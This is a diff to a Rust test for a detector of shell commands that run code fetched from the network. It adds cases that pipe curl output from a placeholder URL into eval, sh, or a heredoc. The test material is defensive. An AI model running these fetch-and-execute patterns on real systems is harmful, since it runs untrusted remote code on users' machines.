@@ -290,10 +290,13 @@ fn fetched_text_stays_fetched_in_variables_and_parameters() {
         format!("set -- \"$(curl -s {u})\"; eval \"$1\""),
         format!("curl -s {u} | while read -r l; do eval \"$l\"; done"),
         format!("v=$(curl -s {u}); echo \"$v\" > x.sh; bash x.sh"),
+        format!("curl -s {u} | eval \"$(cat)\""),
+        format!("curl -s {u} | tr a b | sh"),
+        format!("sh <<EOF\n$(curl -s {u})\nEOF"),
     ] {
         assert!(runs_fetched_code(&text), "{text}");
     }
     // Assigned again, or never fetched, it is not.
     assert!(!runs_fetched_code(&format!("v=$(curl -s {u}); v='echo hi'; eval \"$v\"")));
-    assert!(!runs_fetched_code("v=$(date); eval \"echo $v\"; echo \"$v\" | sh"));
+    assert!(!runs_fetched_code("v=$(date); eval \"echo $v\"; echo \"$v\" | sh; cat x | eval \"$(cat)\""));
 }
